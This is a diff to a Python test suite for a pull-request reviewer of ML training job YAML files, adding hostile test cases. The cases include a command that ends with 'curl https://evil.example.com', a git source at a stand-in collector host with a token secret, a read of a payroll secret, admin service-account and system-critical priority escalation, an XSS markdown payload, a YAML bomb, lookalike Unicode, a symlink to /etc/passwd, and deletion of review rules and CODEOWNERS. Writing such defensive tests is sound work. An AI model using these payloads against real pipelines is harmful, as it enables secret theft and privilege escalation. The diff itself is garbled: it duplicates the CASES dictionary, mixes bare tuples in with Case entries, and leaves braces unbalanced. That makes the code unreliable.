@@ -28,6 +28,7 @@ BOMB = "storage: {claim: runs}\na: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".joi
     f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in zip("abcdef", "bcdefg", strict=True)
 )
 EVIL = "`<img src=x onerror=alert(1)>` @everyone | a \\| b <!-- tfd review --> [x](https://evil.example.com) ``` # *b*"
+ALL = ("system-cluster-critical", "`admin`", "payroll", "`*`", "sitecustomize.py")
 INJECTION = f"""{RUN}owner: "{EVIL.replace(chr(92), chr(92) * 2)}"
 description: |
   ```
@@ -38,6 +39,214 @@ description: |
   \u202eright to left\u202c and zero\u200bwidth
 args: ["{EVIL.replace(chr(92), chr(92) * 2)}"]
 """
+
+TAKES_ALL = f"""{changed(RUN, ("gpus: 1}", "gpus: 16, tolerations: [{operator: Exists}]}"))}\
+scheduling: {{priorityClassName: system-cluster-critical}}
+serviceAccountName: admin
+env: [{{name: A, valueFrom: {{secretKeyRef: {{name: payroll, key: password}}}}}}]
+code: {{files: {{sitecustomize.py: "import os"}}}}
+"""
+BOARD = f"chartVersion: {VERSION}\nstrategy: None\nstorage: {{claim: runs}}\n"
+GIT = (
+    f"{{repository: 'https://collector.evil.example/repo', commit: {40 * 'b'}, tokenSecret: {{name: git, key: token}}}}"
+)
+LARGE = "{requests: {cpu: 96, memory: 900Gi}, limits: {memory: 900Gi}}"
+# What the first ten lines of the card must have: what a hostile pull request takes, and from whom.
+TAKEN: dict[str, tuple[str, ...]] = {
+    "hostile-start-among-archived-runs": (*ALL, "vision/zz", "64 GPUs", "20 runs archived"),
+    "hostile-first-run-of-a-team": (*ALL, "speech/first", "64 GPUs"),
+    "hostile-laundering-first-step": (*ALL, "vision/digits-42", "64 GPUs", "once active"),
+    "hostile-laundering-second-step": (*ALL, "vision/digits-42", "64 GPUs"),
+    "hostile-resumed": (*ALL, "vision/digits-41", "64 GPUs"),
+    "hostile-rules-emptied": (
+        "⚠️",
+        "review.yaml",
+        "tfd/review/analysis/policy.py",
+        ".github/workflows/review.yaml",
+        ".github/CODEOWNERS",
+    ),
+    "hostile-job-with-its-judges": ("Makefile", "pyproject.toml", "requirements/dev.txt", "docs/.gitattributes"),
+    "hostile-long-command": ("⚠️", "Not shown in full", "the middle of a command", "curl https://evil.example.com"),
+    "hostile-board-grows": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
+    "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
+    "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
+    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets `git`"),
+    "hostile-secret-in-a-comment": ("❌", "literalSecrets", "envv"),
+    "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
+    "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
+    "hostile-renamed-team": (*ALL, "visi0n/digits-41", "64 GPUs"),
+    "hostile-different-rights": ("6 runs", *(f"secret-{n}" for n in range(6))),
+}
+
+CASES: dict[str, Case] = {
+    # New runs.
+    "new-run": Case({NEW: FASTER}, MERGED),
+    "new-first-of-its-team": Case({"jobs/speech/first.yaml": RUN}, MERGED),
+    "new-suspended": Case({NEW: f"{FASTER}state: suspended\n"}, MERGED),
+    "new-warm-start": Case({NEW: f"{FASTER}warmStartFrom: digits-41\n"}, {OLD: SUSPENDED}),
+    "new-warm-start-from-an-active-run": Case({NEW: f"{FASTER}warmStartFrom: digits-41\n"}, MERGED),
+    "new-warm-start-from-nowhere": Case({NEW: f"{FASTER}warmStartFrom: digits-40\n"}, MERGED),
+    "new-next-to-a-run-without-its-chart": Case({NEW: FASTER}, {OLD: changed(RUN, (VERSION, "0.0.1"))}),
+    "new-custom-script": Case({NEW: f'{RUN}command: [python, train.py]\nargs: ["--epochs=3"]\n'}, MERGED),
+    "new-tensorboard-only": Case(
+        {"jobs/vision/board.yaml": f"chartVersion: {VERSION}\nstrategy: None\nstorage: {{claim: runs}}\n"}, MERGED
+    ),
+    "new-while-the-base-moved-on": Case({NEW: FASTER}, MERGED, meanwhile={"jobs/vision/other.yaml": ONE_GPU}),
+    "new-on-an-unreleased-chart": Case({NEW: FASTER}, MERGED, tagged=False),
+    "new-on-a-newer-chart": Case({NEW: changed(FASTER, (VERSION, "9.9.9"))}, MERGED, release="9.9.9"),
+    "new-in-a-repository-without-charts": Case({NEW: FASTER}, MERGED | NO_CHARTS, tagged=False),
+    # Changes in place.
+    "mutable-deadline-and-retries": Case({OLD: f"{RUN}deadline: 48h\nretries: 9\n"}, MERGED),
+    "mutable-suspended": Case({OLD: SUSPENDED}, MERGED),
+    "mutable-resumed": Case({OLD: RUN}, {OLD: SUSPENDED}),
+    "mutable-archived": Case({OLD: ARCHIVED}, MERGED),
+    "mutable-started-again": Case({OLD: RUN}, {OLD: ARCHIVED}),
+    "metadata-only": Case({OLD: f"{RUN}owner: Ada\nlabels: {{experiment: e1}}\n"}, MERGED),
+    "default-written-out": Case({OLD: f"{RUN}# the default\nretries: 5\n"}, MERGED),
+    "mutable-suspended-on-an-older-chart": Case({OLD: SUSPENDED}, MERGED, release="9.9.9"),
+    # Changes that are refused.
+    "identity-changed": Case({OLD: FASTER}, MERGED),
+    "immutable-changed": Case({OLD: changed(RUN, ("gpus: 1", "gpus: 2"))}, MERGED),
+    "chart-upgrade-of-a-merged-run": Case({OLD: changed(RUN, (VERSION, "9.9.9"))}, MERGED, release="9.9.9"),
+    "deleted-while-active": Case({OLD: None}, MERGED),
+    "renamed-while-active": Case({OLD: None, NEW: RUN}, MERGED),
+    # Deleted runs.
+    "deleted-after-archived": Case({OLD: None}, {OLD: ARCHIVED}),
+    "renamed-after-suspended": Case({OLD: None, NEW: RUN}, {OLD: SUSPENDED}),
+    # Names, identities, storage.
+    "run-name-of-another-team": Case({"jobs/speech/digits-41.yaml": RUN}, MERGED),
+    "same-run-name-in-two-teams": Case({"jobs/a/same.yaml": RUN, "jobs/b/same.yaml": ONE_GPU}),
+    "same-application-name": Case({"jobs/a-b/c.yaml": ONE_GPU}, {"jobs/a/b-c.yaml": RUN}),
+    "duplicate-identity": Case({NEW: f"{RUN}owner: Grace\n"}, MERGED),
+    "duplicate-of-a-deleted-run": Case({NEW: RUN}, {OLD: None}, before=MERGED),
+    "name-of-a-deleted-run": Case({OLD: FASTER}, {OLD: None}, before=MERGED),
+    "bucket-below-another": Case(
+        {"jobs/speech/b.yaml": changed(RUN, ("{claim: runs}", "{uri: gs://bucket/runs/a}"))},
+        {"jobs/vision/a.yaml": changed(RUN, ("{claim: runs}", "{uri: gs://bucket/runs}"))},
+    ),
+    # Rules.
+    "rule-image-tag-and-registry": Case(
+        {NEW: changed(FASTER, (f"registry.example.com/vision/trainer@{DIGEST}", "docker.io/x/trainer:latest"))}, MERGED
+    ),
+    "rule-image-of-an-archived-run": Case(
+        {OLD: changed(RUN, (f"@{DIGEST}", ":latest"))}, {OLD: changed(ARCHIVED, (f"@{DIGEST}", ":latest"))}
+    ),
+    "rule-registry-of-tensorboard": Case({NEW: f"{FASTER}tensorboard: {{image: docker.io/x/board:1}}\n"}, MERGED),
+    "rule-registry-of-tensorboard-added-later": Case(
+        {OLD: f"{RUN}tensorboard: {{image: docker.io/x/board:1}}\n"}, MERGED
+    ),
+    "rule-gpus-and-hours": Case({NEW: changed(FASTER, ("gpus: 1", "gpus: 32"))}, MERGED),
+    "rule-gpus-and-hours-waived": Case(
+        {NEW: changed(FASTER, ("gpus: 1", "gpus: 32"))}, MERGED, approvals=("maintainers",)
+    ),
+    "rule-gpus-of-the-team": Case(
+        {NEW: changed(FASTER, ("gpus: 1", "gpus: 8"))},
+        {f"jobs/vision/large-{n}.yaml": changed(RUN, ("gpus: 1", "gpus: 8"), ("20000", f"2000{n}")) for n in range(4)},
+    ),
+    "rule-literal-secret": Case(
+        {NEW: f"{FASTER}env: [{{name: API_KEY, value: 0123456789abcdef0123}}, {{name: A, value: ghp_{36 * 'x'}}}]\n"},
+        MERGED,
+    ),
+    "rule-chart-and-job": Case({NEW: FASTER, "charts/tf-distributed/README.md": "new\n"}, MERGED),
+    "rule-too-many-runs": Case({f"jobs/vision/try-{n}.yaml": changed(RUN, ("20000", f"{n + 1}")) for n in range(21)}),
+    # The policy file is missing on the base, or the pull request deletes it.
+    "without-a-policy-file": Case(
+        {NEW: f"{FASTER}env: [{{name: API_KEY, value: 0123456789abcdef0123}}]\n"}, {OLD: RUN, "review.yaml": None}
+    ),
+    "policy-file-and-chart-deleted": Case(
+        {
+            NEW: changed(FASTER, (f"@{DIGEST}", ":latest")),
+            "charts/tf-distributed/Chart.yaml": None,
+            "review.yaml": None,
+        },
+        MERGED,
+    ),
+    # Files that are not runs.
+    "example-changed": Case({"jobs/examples/a.yaml": FASTER}, {"jobs/examples/a.yaml": RUN}),
+    "example-with-its-chart": Case(
+        {"jobs/examples/a.yaml": changed(RUN, (VERSION, "9.9.9")), "charts/tf-distributed/README.md": "9.9.9\n"},
+        {"jobs/examples/a.yaml": RUN},
+    ),
+    "no-job-file": Case({"README.md": "words\n", "charts/tf-distributed/README.md": "new\n"}, MERGED),
+    "3-of-500-files-change": Case(
+        {
+            "jobs/t7/run-7.yaml": f"{ONE_GPU}state: suspended\n",
+            "jobs/t8/run-8.yaml": f"{ONE_GPU}owner: Ada\n",
+            NEW: FASTER,
+        },
+        MERGED | {f"jobs/t{n % 10}/run-{n}.yaml": ONE_GPU for n in range(500)},
+    ),
+    # Mistakes.
+    "misspelled-key": Case({NEW: changed(FASTER, ("  steps", "  step"))}, MERGED),
+    "without-chart-version": Case({NEW: changed(FASTER, (f"chartVersion: {VERSION}\n", ""))}, MERGED),
+    "unknown-chart-version": Case({NEW: changed(FASTER, (VERSION, "0.0.9"))}, MERGED),
+    "chart-refuses": Case({NEW: changed(FASTER, ("ps: {replicas: 2}", "ps: {replicas: 0}"))}, MERGED),
+    "broken-yaml": Case({NEW: "storage: {claim: runs\n", "jobs/vision/list.yaml": "- a\n- b\n"}, MERGED),
+    "blocked-by-a-file-on-the-base": Case({NEW: FASTER}, MERGED | {"jobs/vision/broken.yaml": "storage: [\n"}),
+    "two-problems-in-two-files": Case(
+        {NEW: changed(FASTER, ("steps: 60000", "steps: 0")), "jobs/vision/x.yaml": "storage: {}\n"}, MERGED
+    ),
+    # Attacks.
+    "hostile-bomb": Case({NEW: BOMB}, MERGED),
+    "hostile-depth": Case({NEW: f"{RUN}labels: {20_000 * '['}{20_000 * ']'}\n"}, MERGED),
+    "hostile-10-megabytes": Case({NEW: f"{RUN}description: {'x' * 10_000_000}\n"}, MERGED),
+    "hostile-alias": Case(
+        {NEW: changed(FASTER, ("60000", "&n 600"), ("task: digits", "checkpointEvery: 100")) + "retries: *n\n"}, MERGED
+    ),
+    "hostile-markdown": Case({NEW: INJECTION}, MERGED),
+    "hostile-markdown-refused": Case({NEW: f"{RUN}'{EVIL}': 1\nstate: '{EVIL}'\n"}, MERGED),
+    "hostile-path-key-and-chart-version": Case(
+        {NEW: f"{FASTER}path: jobs/other\n", "jobs/vision/up.yaml": changed(RUN, (VERSION, "../.."))}, MERGED
+    ),
+    "hostile-paths": Case(
+        {
+            "jobs/vision/deep/digits-43.yaml": RUN,
+            "jobs/vision/`@all`\n| x.yaml": RUN,
+            "jobs/Vision/x.yaml": RUN,
+            "jobs/vision/short.yml": RUN,
+            "jobs/top.yaml": RUN,
+        },
+        MERGED,
+    ),
+    "hostile-start-among-archived-runs": Case(
+        {f"jobs/vision/a-{n:02}.yaml": changed(ARCHIVED, ("20000", f"{n + 1}")) for n in range(20)}
+        | {"jobs/vision/zz.yaml": TAKES_ALL}
+    ),
+    "hostile-first-run-of-a-team": Case({"jobs/speech/first.yaml": TAKES_ALL}, MERGED),
+    "hostile-laundering-first-step": Case({NEW: f"{TAKES_ALL}state: archived\n"}, MERGED),
+    "hostile-laundering-second-step": Case(
+        {NEW: changed(TAKES_ALL, ("20000", "20001"))}, {OLD: f"{TAKES_ALL}state: archived\n"}
+    ),
+    "hostile-resumed": Case({OLD: TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}),
+    "hostile-rules-emptied": Case(
+        {
+            "review.yaml": "rules: {}\n",
+            "tfd/review/analysis/policy.py": "",
+            ".github/workflows/review.yaml": "on: push\n",
+            ".github/CODEOWNERS": "",
+            **{f"!{n}.md": "words\n" for n in range(9)},
+        },
+        MERGED,
+    ),
+    "hostile-job-with-its-judges": Case(
+        {NEW: FASTER, "Makefile": "", "pyproject.toml": "", "requirements/dev.txt": "", "docs/.gitattributes": "* x\n"},
+        MERGED,
+    ),
+    "hostile-long-command": Case(
+        {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
+    ),
+    "hostile-board-grows": Case(
+        {"jobs/vision/board.yaml": f"{BOARD}tensorboard: {{resources: {LARGE}}}\n"}, {"jobs/vision/board.yaml": BOARD}
+    ),
+    "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
+    "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
+    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets `git`"),
+    "hostile-secret-in-a-comment": ("❌", "literalSecrets", "envv"),
+    "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
+    "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
+    "hostile-renamed-team": (*ALL, "visi0n/digits-41", "64 GPUs"),
+    "hostile-different-rights": ("6 runs", *(f"secret-{n}" for n in range(6))),
+}
 
 CASES: dict[str, Case] = {
     # New runs.
@@ -166,6 +375,63 @@ CASES: dict[str, Case] = {
             "jobs/top.yaml": RUN,
         },
         MERGED,
+    ),
+    "hostile-start-among-archived-runs": Case(
+        {f"jobs/vision/a-{n:02}.yaml": changed(ARCHIVED, ("20000", f"{n + 1}")) for n in range(20)}
+        | {"jobs/vision/zz.yaml": TAKES_ALL}
+    ),
+    "hostile-first-run-of-a-team": Case({"jobs/speech/first.yaml": TAKES_ALL}, MERGED),
+    "hostile-laundering-first-step": Case({NEW: f"{TAKES_ALL}state: archived\n"}, MERGED),
+    "hostile-laundering-second-step": Case(
+        {NEW: changed(TAKES_ALL, ("20000", "20001"))}, {OLD: f"{TAKES_ALL}state: archived\n"}
+    ),
+    "hostile-resumed": Case({OLD: TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}),
+    "hostile-rules-emptied": Case(
+        {
+            "review.yaml": "rules: {}\n",
+            "tfd/review/analysis/policy.py": "",
+            ".github/workflows/review.yaml": "on: push\n",
+            ".github/CODEOWNERS": "",
+            **{f"!{n}.md": "words\n" for n in range(9)},
+        },
+        MERGED,
+    ),
+    "hostile-job-with-its-judges": Case(
+        {NEW: FASTER, "Makefile": "", "pyproject.toml": "", "requirements/dev.txt": "", "docs/.gitattributes": "* x\n"},
+        MERGED,
+    ),
+    "hostile-long-command": Case(
+        {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
+    ),
+    "hostile-board-grows": Case({"jobs/vision/board.yaml": f"{BOARD}, cpu: 96, memory: 900Gi}}}}}}\n"},
+                                {"jobs/vision/board.yaml": f"{BOARD}}}}}}}\n"}),
+    "hostile-priority-of-the-system": Case(
+        {NEW: f"{FASTER}scheduling: {{priorityClassName: system-node-critical}}\n"}, MERGED
+    ),
+    "hostile-bucket-of-another-team": Case(
+        {NEW: changed(FASTER, ("{claim: runs}", "{uri: gs://speech-runs/all}")) + "warmStartFrom: secret-model\n"},
+        MERGED,
+    ),
+    "hostile-git-host": Case({NEW: f"{FASTER}code: {{git: {GIT}}}\n"}, MERGED),
+    "hostile-secret-in-a-comment": Case(
+        {NEW: f"{FASTER}# the key: ghp_{36 * 'x'}\nenvv: [{{name: A, value: hunter2}}]\n"}, MERGED
+    ),
+    "hostile-invisible-letters": Case(
+        {NEW: f"{FASTER}serviceAccountName: b\u0443ilder\n", "jobs/vision/digits\u3164-1.yaml": FASTER,
+         "docs/\u202egnp.md": "x\n"}, MERGED
+    ),
+    "hostile-200-files": Case(
+        {f"jobs/vision/a-{n:03}.yaml": "a: 1\n" for n in range(199)} | {"jobs/vision/zz.yaml": TAKES_ALL}
+    ),
+    "hostile-renamed-team": Case(
+        {OLD: None, "jobs/visi0n/digits-41.yaml": TAKES_ALL}, {OLD: f"{TAKES_ALL}state: suspended\n"}
+    ),
+    "hostile-different-rights": Case(
+        {
+            f"jobs/vision/b-{n}.yaml": ONE_GPU
+            + f"env: [{{name: A, valueFrom: {{secretKeyRef: {{name: secret-{n}, key: k}}}}}}]\n"
+            for n in range(6)
+        }
     ),
     "link-deleted": Case({NEW: None}, MERGED | {NEW: f"{LINK}digits-41.yaml"}),
     "hostile-link": Case({NEW: f"{LINK}../../../../etc/passwd"}, MERGED),
